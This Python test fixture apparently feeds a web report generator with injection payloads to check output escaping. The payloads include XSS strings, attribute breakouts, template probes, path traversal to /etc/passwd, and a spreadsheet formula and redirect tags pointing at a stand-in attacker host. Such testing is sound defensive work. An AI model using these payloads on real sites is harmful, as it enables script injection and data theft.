"""A gallery in which every string that reaches a page is what a stranger would try: one network per payload.

Each payload that a page took for more than text would run `ran()`, or leave an element or an attribute that
is called `x-planted`.
"""

from __future__ import annotations

import hashlib
import json
from dataclasses import replace
from pathlib import Path
from typing import Any

from benchmarks.synthetic import (
    anatomy,
    animation,
    fail,
    layer,
    pixels_of,
    plan_of,
    png,
    record,
    texture,
)
from benchmarks.synthetic_facts import channel_facts, photos, put_facts
from generator.cache.entries import Cache
from generator.evidence.facts import Evidence, FactsRef, LayerFacts, Neighbour, Recognition, Trust
from generator.evidence.labels import Preference
from generator.plan import Job, Plan

PAYLOADS: dict[str, str] = {
    "script": "<script>ran()</script><x-planted>",
    "end of a script": "</script><script>ran()</script><x-planted>",
    "element with a handler": "<img src=x-planted onerror=ran()><svg/onload=ran()>",
    "attribute in double quotes": '" onmouseover="ran()" autofocus onfocus="ran()" x-planted="',
    "attribute in single quotes": "' onmouseover='ran()' autofocus onfocus='ran()' x-planted='",
    "attribute without quotes": "x onpointerenter=ran() x-planted=`ran()`",
    "comment": "--><x-planted><!--<script>ran()</script>",
    "end of an element": "</title></style></textarea></pre></svg></select><x-planted><script>ran()</script>",
    "javascript address": "javascript:ran()",
    "javascript address in disguise": "\x01java\tscript\n:ran()//",
    "data address": "data:text/html,<script>parent.ran()</script><x-planted>",
    "string of a script": "\\\";ran();//';ran();//\\u0022;ran();//`${ran()}`",
    "ends of lines of a script": "\u2028ran()\u2029ran()//\x85ran()",
    "template": "{{ 7 * 191 }}{% set x = 7 %}{# x #}${ran()}#{7*191}<%= 7 * 191 %>{{ site.__class__ }}",
    "text written backwards": "\u202e\u2066<x-planted onclick=ran()>gnp.exe\u2069",
    "very long": f"<x-planted>{'A' * 3000} {'B<b>' * 500}\"'",
    "escaped": "&lt;script&gt;ran()&lt;/script&gt;&#60;x-planted&#62;&amp;quot; x-planted=&quot;",
    "other addresses": (
        '<base href="https://evil.invalid/"><meta http-equiv="refresh" content="0;url=https://evil.invalid/">'
        "<iframe srcdoc='<script>parent.ran()</script>'></iframe><object data=x-planted></object>"
        "<form action=https://evil.invalid/><link rel=stylesheet href=https://evil.invalid/x.css>"
    ),
    "style": '"></style>;background:url(https://evil.invalid/x);}*{display:none}x-planted{" style="color:red',
    "formula": '=HYPERLINK("https://evil.invalid/?"&A1)',
    "own name of JavaScript": "__proto__",
    "path": "../../../../../../tmp/x-planted/../../etc/passwd",
    "path of Windows": "..\\..\\C:\\x-planted\\CON",
    "control signs": "\x1b]0;x-planted\x07\x1b[31m\x7f\ufffe<x-planted>\u200b",
}
ALL = " ".join(PAYLOADS.values())
CHANNELS = 3
"""Of each network's layer `deep`; of the second channel the picture failed, of the third it is missing."""
URL = 'https://example.org/"><x-planted/onclick=ran()>'


def line(text: str) -> str:
    """A text as notes have it: in a line."""
    return " ".join(text.split())


def hostile_plan(folder: Path, **settings: Any) -> Plan:
    """A filled plan of a network per payload, which stands wherever a text of that network can."""
    folder.mkdir(exist_ok=True)
    photo = folder / "'\"><x-planted onload=ran()>.png"
    photo.write_bytes(png(texture(7, 96)[:64]))
    networks, models, recipes, notes = {}, {}, {}, {}
    for payload in PAYLOADS.values():
        name = payload
        network = anatomy(
            [layer(payload, CHANNELS, "input", kind=payload), layer("last", CHANNELS, payload)],
            name=payload,
            classes=[payload] * CHANNELS,
        )
        networks[name] = replace(
            network, source=payload, weights=payload, origin=payload, preprocessing=payload
        )
        moving = {"frames": 2} if payload == PAYLOADS["script"] else {}
        recipes[payload] = {"description": payload, **moving}
        recipes[f"whole {payload}"] = {
            "base": "caricature",
            "image": photo,
            "description": payload,
            "size": 32,
        }
        models[name] = {"layers": [payload], "recipes": [payload, f"whole {payload}"]}
        note = {"label": payload, "text": payload, "tags": [payload]}
        addresses = (name, f"{name}/{payload}", *(f"{name}/{payload}/{n}" for n in range(CHANNELS)))
        # YAML takes no longer keys in a line.
        notes.update({address: note for address in addresses if len(json.dumps(address)) < 1000})
    (folder / "notes.yaml").write_text(json.dumps(notes), encoding="utf-8")
    words = {"title": ALL, "description": ALL, "url": URL}
    plan = plan_of(folder, networks, models, recipes=recipes, **{**words, **settings})
    _fill(plan)
    return plan


def _fill(plan: Plan) -> None:
    cache = Cache(plan.config.cache)
    for job in plan.jobs:
        if job.channel == 1:
            fail(plan, job, job.model)
        elif job.channel != 2:
            cache.put(
                _record(plan, job), png(pixels_of(plan.recipes[job.recipe_name], 7)), _moving(plan, job)
            )


def _record(plan: Plan, job: Job) -> Any:
    words = {job.model: job.model, "keras": job.model}
    return record(plan, job, versions=words, rendered_at=job.model)


def _moving(plan: Plan, job: Job) -> bytes:
    recipe = plan.recipes[job.recipe_name]
    return animation(recipe, 7, "webp") if recipe.frames else b""


def hostile_evidence(plan: Plan) -> Evidence:
    """Evidence on every channel, all of whose texts are the network's payload."""
    cache = Cache(plan.config.cache)
    shown = photos(cache, 6, (64, 64))
    return Evidence({(payload, payload): _facts(cache, payload, shown, plan) for payload in plan.models})


def _facts(cache: Cache, payload: str, shown: Any, plan: Plan) -> FactsRef:
    around = (payload, payload)
    one = channel_facts(1, len(shown), around, [payload] * CHANNELS)
    one = replace(
        one,
        flags=(payload,),
        labels=(Preference(payload, 0.9, 1.0, 5),),
        built_from=tuple(replace(circuit, obstacle=payload) for circuit in one.built_from),
        relatives=(Neighbour(payload, payload, 2, 0.9), Neighbour(payload, f"{payload} lost", 7, 0.5)),
        trust={payload: Trust(0.5, 1.5, 0.5)},
        recognised={payload: (Recognition(payload, 2, 0.25),)},
        twins=(1,),
    )
    named = tuple(
        replace(photo, name=f"{payload}/{n}.jpg", label=payload, digest=hashlib.sha256(b"%d" % n).hexdigest())
        for n, photo in enumerate(shown)
    )
    facts = LayerFacts(
        dataset=payload,
        licence=payload,
        seen=6,
        photos=named,
        photo_size=(64, 64),
        channels=dict.fromkeys(range(CHANNELS), one),
        places={n: (n / CHANNELS, 0.5) for n in range(CHANNELS)},
    )
    return put_facts(cache, facts)
